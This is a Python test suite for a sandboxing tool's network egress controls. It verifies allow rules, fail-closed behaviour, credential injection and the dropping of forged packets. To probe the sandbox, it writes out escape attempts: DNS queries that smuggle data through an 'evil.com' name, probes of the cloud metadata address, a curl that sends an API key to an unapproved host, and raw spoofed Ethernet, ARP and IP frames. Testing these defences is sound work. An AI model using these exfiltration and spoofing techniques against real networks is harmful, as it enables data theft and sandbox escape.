"""The sandbox's network: what a rule allows works without flags, everything else ends at the sandbox's own process."""
import json
import os
import pathlib
import signal
import subprocess
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "lib"))
from sandbox_test import SandboxTest, main  # noqa: E402
from tls_server import Authority, Server  # noqa: E402

API = """
egress:
  - host: api.example.com
    methods: [GET, POST]
    paths: [/v1/**]
"""

# What a program in the sandbox gets when it asks for a name, directly of a server of its choice.
ASK = r"""
import socket, struct, sys
name, server, how = sys.argv[1:4]
q = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\1\0\1"
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if how == "tcp" else socket.SOCK_DGRAM)
s.settimeout(10)
s.connect((server, 53))
s.send((struct.pack("!H", len(q)) if how == "tcp" else b"") + q)
a = s.recv(4096)
if how == "tcp":
    a = a[2:]
print(a[3] & 15, int.from_bytes(a[6:8], "big"), ".".join(map(str, a[-4:])) if a[7] else "")
"""

# A connection to an address; how it ends.
KNOCK = r"""
import socket, sys
s = socket.socket(); s.settimeout(10)
try:
    s.connect((sys.argv[1], int(sys.argv[2]))); s.send(b"hello\r\n\r\n")
    d = s.recv(100)
    print("data" if d else "closed", d[:20])
except OSError as e:
    print(type(e).__name__)
"""


class EgressTest(SandboxTest):
    def setUp(self):
        super().setUp()
        self.authority = Authority(self.folder / "ca")
        self.server = Server(self.authority.context_for("api.example.com"))
        self.addCleanup(self.server.close)
        self.to_server = ["--connect-to", f"api.example.com:443=127.0.0.1:{self.server.port}",
                          "--upstream-ca", self.authority.certificate]

    def told(self, **members):
        found = [c for c in self.network_events() if all(c.get(name) == value for name, value in members.items())]
        self.assertTrue(found, f"{members} is not among {json.dumps(self.network_events(), indent=1)}")
        return found[0]


class OneWayOutTest(EgressTest):  # 48 s
    def test_inv02_without_egress_there_is_no_device(self):
        self.manifest("")
        out = self.run_in("ls /sys/class/net; cat /etc/resolv.conf; env | grep -c CERT || true")
        self.assertEqual(out, "lo\n0\n")

    def test_inv07_names_addresses_and_datagrams_end_here(self):
        self.manifest(API)
        out = self.run_in(f"""
            cat > ask.py <<'X'\n{ASK}\nX
            cat > knock.py <<'X'\n{KNOCK}\nX
            ls /sys/class/net | tr '\\n' ' '; echo
            cat /etc/resolv.conf
            for server in 192.0.0.1 9.9.9.9; do for how in udp tcp; do
              python3 ask.py data.in.labels.evil.com $server $how
              python3 ask.py api.example.com $server $how
            done; done
            python3 knock.py 93.184.216.34 443
            python3 knock.py 10.0.0.1 22
            python3 knock.py 169.254.169.254 80
            python3 knock.py 9.9.9.9 853
            python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x" * 99, ("1.2.3.4", 443))'
            python3 -c 'import socket; print(socket.has_ipv6, [i for i in open("/proc/net/if_inet6")])'
            getent hosts denied.example.com || echo no such name
            """, *self.to_server).splitlines()
        self.assertEqual(out[0].split(), ["eth0", "lo"])
        self.assertEqual(out[1], "nameserver 192.0.0.1")
        answers = [line.split() for line in out[2:10]]
        self.assertEqual([a[:2] for a in answers[0::2]], [["3", "0"]] * 4, "a denied name is no name")
        for answer in answers[1::2]:
            self.assertEqual(answer[:2], ["0", "1"])
            self.assertRegex(answer[2], r"^198\.1[89]\.")
        self.assertEqual(out[10:14], ["ConnectionResetError"] * 4)
        self.assertIn("[]", out[14])
        self.assertEqual(out[15], "no such name")
        self.assertEqual(self.server.requests, [])
        self.assertEqual(self.told(kind="name", host="data.in.labels.evil.com")["verdict"], "denied")
        for host, port in (("93.184.216.34", 443), ("10.0.0.1", 22), ("169.254.169.254", 80), ("9.9.9.9", 853)):
            self.assertEqual(self.told(kind="connection", host=host, port=port)["verdict"], "denied")
        self.assertEqual(self.told(kind="datagram", host="1.2.3.4", port=443)["bytes_out"], 99)
        listed = self.firestop("network", sorted((self.state / "firestop/runs").glob("2*"))[-1].name).stdout.decode()
        self.assertIn("no rule of the sandbox allows 93.184.216.34:443", listed, "why stands in the list")

    def test_a_request_that_a_rule_allows_works_without_flags(self):
        self.manifest(API)
        done = self.firestop("run", "--json", *self.to_server, "--", "curl", "-sS", "--http1.1", "-d", "hello",
                             "https://api.example.com/v1/things?x=1")
        self.assertEqual(done.stdout, b"POST /v1/things?x=1 of api.example.com, 5 bytes\n")
        self.assertEqual([(m, p, b) for m, p, h, b in self.server.requests], [("POST", "/v1/things?x=1", b"hello")])
        request = self.told(kind="request", host="api.example.com")
        self.assertEqual([request[n] for n in ("verdict", "rule", "method", "path", "status", "scheme")],
                         ["allowed", "egress[0]", "POST", "/v1/things", 200, "https"])
        network = self.ended(done)["run"]["network"]
        self.assertEqual(network["connect_to"], [f"api.example.com:443=127.0.0.1:{self.server.port}"])
        self.assertGreaterEqual(network["allowed"], 1)
        self.assertEqual(network["lost"], 0)
        self.assertGreater(network["bytes"], 1000)
        self.assertTrue(network["landlock"])

    def test_a_request_beyond_the_rule_gets_a_reason(self):
        self.manifest(API)
        out = self.run_in("curl -sS --http1.1 -w '%{http_code}\\n' https://api.example.com/v2/x;"
                          "curl -sS --http1.1 -X DELETE -w '%{http_code}\\n' https://api.example.com/v1/x", *self.to_server)
        self.assertEqual(out.count("403\n"), 2, out)
        self.assertIn("egress.path", out)
        self.assertIn("egress.method", out)
        self.assertEqual(self.server.requests, [])

    def test_clients_trust_the_authority_in_every_way_of_starting(self):
        self.manifest(API)
        python = "import urllib.request as u; print(u.urlopen('https://api.example.com/v1/p').status)"
        out = self.run_in(f"""
            curl -sS --http1.1 -o /dev/null -w '%{{http_code}}\\n' https://api.example.com/v1/c
            env -i curl -sS --http1.1 -o /dev/null -w '%{{http_code}}\\n' https://api.example.com/v1/c
            python3 -c "{python}"
            env -i /usr/bin/python3 -c "{python}"
            env -i bash -lc 'echo $NODE_EXTRA_CA_CERTS'
            git ls-remote https://api.example.com/v1/repo 2>&1 | grep -ci certificate || true
            openssl verify -CApath /etc/ssl/certs /usr/local/share/ca-certificates/firestop.crt
            """, *self.to_server).splitlines()
        self.assertEqual(out[:4], ["200"] * 4)
        self.assertEqual(out[4], "/usr/local/share/ca-certificates/firestop.crt")
        self.assertEqual(out[5], "0")
        if len(out) > 6:
            self.assertTrue(out[6].endswith(": OK"), out[6])


class FailClosedTest(EgressTest):
    def egress_of(self, process):
        """The network process of a `firestop run`, as soon as it is there."""
        end = time.monotonic() + 120
        while time.monotonic() < end:
            for child in self.descendants_of(process.pid):
                try:
                    if b"__egress" in pathlib.Path(f"/proc/{child.pid}/cmdline").read_bytes():
                        return child
                except OSError:
                    pass
            time.sleep(0.02)
        self.fail("there is no network process")

    def test_inv04_the_network_process_dies_and_the_run_with_it(self):
        self.manifest(API)
        process = self.start("run", "--json", *self.to_server, "--", "sh", "-c", "echo up; sleep 100",
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
        egress = self.egress_of(process)
        self.assertEqual(process.stdout.readline(), b"up\n")
        os.kill(egress.pid, signal.SIGKILL)
        begun = time.monotonic()
        out, err = process.communicate(timeout=60)
        self.assertEqual(process.returncode, 245, err)
        last = json.loads(err.decode().splitlines()[-1])
        self.assertEqual(last["error"]["code"], "egress.gone")
        self.assertLess(time.monotonic() - begun, 5)  # a second, and what a loaded host adds
        self.assertEqual(out, b"")

    def test_inv04_what_it_may_do_is_little(self):
        self.manifest(API)
        process = self.start("run", *self.to_server, "--", "sh", "-c", "echo up; sleep 100", stdout=subprocess.PIPE,
                             stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
        egress = self.egress_of(process)
        self.assertEqual(process.stdout.readline(), b"up\n")
        status = dict(line.split(":\t", 1) for line in
                      pathlib.Path(f"/proc/{egress.pid}/status").read_text().splitlines() if ":\t" in line)
        self.assertEqual([status[n] for n in ("NoNewPrivs", "Seccomp", "CapEff", "CapPrm", "CapBnd")],
                         ["1", "2", "0" * 16, "0" * 16, "0" * 16])
        limits = pathlib.Path(f"/proc/{egress.pid}/limits").read_text()
        self.assertRegex(limits, r"Max core file size +0 +0 ")
        self.assertRegex(limits, r"Max file size +0 +0 ")
        # QEMU has the tap, and nobody has anything of the other's.
        kinds = [os.readlink(f) for f in pathlib.Path(f"/proc/{egress.pid}/fd").iterdir()]
        self.assertNotIn("/dev/net/tun", kinds)
        self.assertEqual([k for k in kinds if k.startswith("/") and k != "/dev/null"], [])

    def test_inv15_nothing_is_left_after_kill_9(self):
        self.manifest(API)
        namespaces = self.namespaces()
        process = self.start("run", *self.to_server, "--", "sh", "-c", "echo up; sleep 100", stdout=subprocess.PIPE,
                             stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
        self.egress_of(process)
        self.assertEqual(process.stdout.readline(), b"up\n")
        children = self.descendants_of(process.pid)
        process.kill()
        process.wait()
        end = time.monotonic() + 20
        while any(child.alive() for child in children) and time.monotonic() < end:
            time.sleep(0.02)
        self.assertEqual([child.name for child in children if child.alive()], [])
        # Other tests have theirs meanwhile; what a dead run left would stay.
        left = self.namespaces() - namespaces
        end = time.monotonic() + 120
        while left and time.monotonic() < end:
            time.sleep(0.5)
            left &= self.namespaces()
        self.assertEqual(left, set())
        self.assertFalse(os.path.exists("/sys/class/net/guest"))

    @staticmethod
    def namespaces():
        """Network namespaces that some process of this machine is in or holds."""
        found = set()
        for proc in pathlib.Path("/proc").glob("[0-9]*"):
            try:
                command = (proc / "cmdline").read_bytes()
                if b"firestop" in command or b"qemu" in command:
                    found.add(os.readlink(proc / "ns/net"))
            except OSError:
                pass
        return found

    def test_inv05_the_bytes_of_the_network_are_capped(self):
        self.manifest(API + "limits: {memory: 256MiB, disk: 512MiB, network: {bytes: 200kB}}\n")
        done = self.firestop("run", "--json", *self.to_server, "--", "python3", "-c",
                             "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                             "while True: s.sendto(b'x' * 1000, ('1.2.3.4', 9))", status=244)
        self.assertEqual(self.ended(done)["error"]["code"], "cap.network")

    def test_an_unused_mapping_is_an_error(self):
        self.manifest("")
        done = self.firestop("run", *self.to_server, "--", "true", status=240)
        self.assertIn(b"no `egress`", done.stderr)
        self.manifest(API)
        done = self.firestop("run", "--connect-to", "api.example.com=127.0.0.1", "--", "true", status=240)
        self.assertIn(b"--connect-to", done.stderr)


VALUE = "real-value-of-the-key-0123456789"


class CredentialTest(EgressTest):
    def setUp(self):
        super().setUp()
        bindings = self.folder / "config/firestop/credentials.yaml"
        bindings.parent.mkdir(parents=True)
        bindings.write_text("model:\n  hosts: [api.example.com]\n  env: REAL_KEY\n")
        bindings.chmod(0o600)
        self.env["REAL_KEY"] = VALUE
        self.with_credential("deny")

    def with_credential(self, on_alarm):
        self.manifest(API.rstrip() + f"""
    credential: model
  - host: other.example.com
credentials:
  model: {{env: API_KEY, inject: bearer, on_alarm: {on_alarm}}}
""")

    def test_inv08_the_value_is_put_in_on_the_way_and_only_there(self):
        out = self.run_in("""
            curl -sS --http1.1 -H "Authorization: Bearer $API_KEY" https://api.example.com/v1/me
            env | grep -c real-value; echo "${#API_KEY}"
            curl -sS --http1.1 -H "X-Key: $API_KEY" -w '%{http_code}\n' -o /dev/null https://api.example.com/v1/x
            curl -sS --http1.1 -d "key=$API_KEY" -w '%{http_code}\n' -o /dev/null https://other.example.com/
            """, *self.to_server).splitlines()
        self.assertEqual(out[0], "GET /v1/me of api.example.com, 0 bytes")
        self.assertEqual(out[1], "0")
        self.assertGreater(int(out[2]), 20)
        self.assertEqual(out[3:], ["403", "403"])
        self.assertEqual([h["Authorization"] for m, p, h, b in self.server.requests], [f"Bearer {VALUE}"])
        self.assertEqual(self.told(kind="request", path="/v1/me")["credential"], "model")
        self.assertEqual(self.told(kind="alarm", host="other.example.com")["code"], "credential.elsewhere")
        for path in self.state.rglob("*"):
            if path.is_file():
                self.assertNotIn(VALUE.encode(), path.read_bytes(), path)

    def test_inv08_an_alarm_ends_the_run_where_it_says_so(self):
        self.with_credential("kill")
        done = self.firestop("run", "--json", *self.to_server, "--", "sh", "-c",
                             "curl -sS https://other.example.com/?$API_KEY; sleep 60; echo late", status=244)
        self.assertEqual(self.ended(done)["error"]["code"], "credential.elsewhere")
        self.assertNotIn(b"late", done.stdout)
        self.assertEqual(self.ended(done)["run"]["network"]["alarms"], 1)

    def test_inv08_an_alarm_freezes_the_machine(self):
        self.with_credential("freeze")
        process = self.start("run", "--json", *self.to_server, "--", "sh", "-c",
                             "curl -sS -m 20 https://other.example.com/?$API_KEY; while :; do echo tick; sleep 0.2; done",
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
        for line in process.stderr:
            if b"frozen" in line:
                break
        time.sleep(2)
        before = pathlib.Path(f"/proc/{self.children_of(process.pid, 'qemu')[0]}/stat").read_text().split(") ")[1]
        self.assertTrue(before.startswith("T"), before)
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=60)
        self.assertEqual(process.returncode, 244, err)

    def test_without_a_binding_nothing_starts(self):
        (self.folder / "config/firestop/credentials.yaml").unlink()
        done = self.firestop("run", "--json", *self.to_server, "--", "true", status=242)
        self.assertEqual(self.ended(done)["error"]["code"], "credentials.unbound")


# As root in the machine, with the device in its hands.
RAW = r"""
import fcntl, os, socket, struct, subprocess, sys, time
p = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); p.bind(("eth0", 0)); p.settimeout(0.5)
gateway = bytes.fromhex("026673000001"); mac = p.getsockname()[4]

def checksum(data):
    data += b"\0" * (len(data) % 2)
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

def ip(source, to, protocol, payload, src=mac, dst=gateway, ethertype=0x0800):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0, socket.inet_aton(source),
                    socket.inet_aton(to))
    h = h[:10] + struct.pack("!H", checksum(h)) + h[12:]
    return dst + src + struct.pack("!H", ethertype) + h + payload

def udp(a, b, payload):
    return struct.pack("!HHHH", a, b, 8 + len(payload), 0) + payload

ask = b"\x12\x34\x01\0\0\1" + bytes(6) + b"\3xyz\7invalid\0\0\1\0\1"
me = "192.0.0.2"
frames = {
    "question": ip(me, "9.9.9.9", 17, udp(5555, 53, ask)),
    "another source": ip("192.0.0.3", "9.9.9.9", 17, udp(5556, 53, ask)),
    "the gateway's source": ip("192.0.0.1", "9.9.9.9", 17, udp(5557, 53, ask)),
    "loopback's source": ip("127.0.0.1", "9.9.9.9", 17, udp(5558, 53, ask)),
    "another mac": ip(me, "9.9.9.9", 17, udp(5559, 53, ask), src=bytes.fromhex("020000000099")),
    "broadcast": ip(me, "9.9.9.9", 17, udp(5560, 53, ask), dst=b"\xff" * 6),
    "ping": ip(me, "9.9.9.9", 1, struct.pack("!BBHHH", 8, 0, 0xf7ff, 0, 0)),
    "gre": ip(me, "9.9.9.9", 47, bytes(8)),
    "ipip": ip(me, "9.9.9.9", 4, ip(me, "8.8.8.8", 17, udp(1, 53, ask))[14:]),
    "arp": b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, 1) + mac + socket.inet_aton("10.0.0.1")
           + bytes(6) + socket.inet_aton("192.0.0.1"),
    "arp reply": gateway + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, 2) + mac
           + socket.inet_aton("192.0.0.1") + gateway + socket.inet_aton("192.0.0.1"),
    "vlan": gateway + mac + b"\x81\0\0\5" + ip(me, "9.9.9.9", 17, udp(5561, 53, ask))[12:],
    "ipv6": b"\x33\x33\0\0\0\1" + mac + b"\x86\xdd\x60\0\0\0" + struct.pack("!HBB", 8, 58, 255) + bytes(32) + b"\x85\0" + bytes(6),
    "short": gateway + mac + b"\x08\0\x45",
    "long": gateway + mac + b"\x08\0" + b"\x45" * 1400,
}
for name, frame in frames.items():
    p.send(frame)
    answers, end = [], time.monotonic() + 0.7
    while time.monotonic() < end:
        try:
            f, where = p.recvfrom(4096)
        except OSError:
            continue
        if where[2] != 4:  # not our own
            answers.append("%d.%d.%d.%d:%d" % (*f[26:30], int.from_bytes(f[34:36], "big")) if f[12:14] == b"\x08\0" else f[12:14].hex())
    print(name + ": " + " ".join(answers), flush=True)
"""


class GuestRootTest(EgressTest):  # 26 s
    def test_inv07_raw_frames_of_root_end_here_too(self):
        self.env["FIRESTOP_TEST_GUEST_ROOT"] = "1"
        self.manifest(API)
        done = self.firestop("run", "--json", *self.to_server, "--", "python3", "-c", RAW)
        answers = dict(line.split(": ") if ": " in line else (line.rstrip(":"), "")
                       for line in done.stdout.decode().splitlines())
        self.assertEqual(answers.pop("question"), "9.9.9.9:53")
        # Its own address is what counts: whose hardware address it writes makes no difference, nor where it sends it.
        for name in ("another mac", "broadcast"):
            self.assertIn(answers.pop(name), ("", "9.9.9.9:53"))
        self.assertEqual({name: answer for name, answer in answers.items() if answer}, {})
        self.assertEqual(self.server.requests, [])
        kinds = {c["kind"] for c in self.network_events()}
        self.assertLessEqual(kinds, {"name", "datagram"})

    def test_inv07_another_address_and_route_lead_nowhere(self):
        self.env["FIRESTOP_TEST_GUEST_ROOT"] = "1"
        self.manifest(API)
        change = r"""
import fcntl, socket, struct, sys
def set(request, device, *more):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fcntl.ioctl(s, request, struct.pack("16s", device.encode()) + b"".join(more).ljust(24, b"\0"))
address = lambda a: struct.pack("HH4s8x", 2, 0, socket.inet_aton(a))
set(0x8914, "eth0", struct.pack("h", 0))                                   # down
set(0x8924, "eth0", struct.pack("H6s", 1, bytes.fromhex("026673000001")))  # the gateway's hardware address
set(0x8914, "eth0", struct.pack("h", 0x43))
set(0x8916, "eth0", address("10.0.0.2"))                                   # another address
set(0x891c, "eth0", address("255.0.0.0"))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(b"\x12\x34\x01\0\0\1" + bytes(6) + b"\3xyz\7invalid\0\0\1\0\1", ("10.0.0.1", 53))
try:
    print("answer", s.recv(100))
except OSError as e:
    print(type(e).__name__)
t = socket.socket(); t.settimeout(2)
try:
    t.connect(("10.0.0.1", 80)); print("connected")
except OSError as e:
    print(type(e).__name__)
"""
        out = self.firestop("run", *self.to_server, "--", "python3", "-c", change).stdout.decode().split()
        for word in out:
            self.assertIn(word, ("TimeoutError", "timeout", "OSError"))


if __name__ == "__main__":
    main()
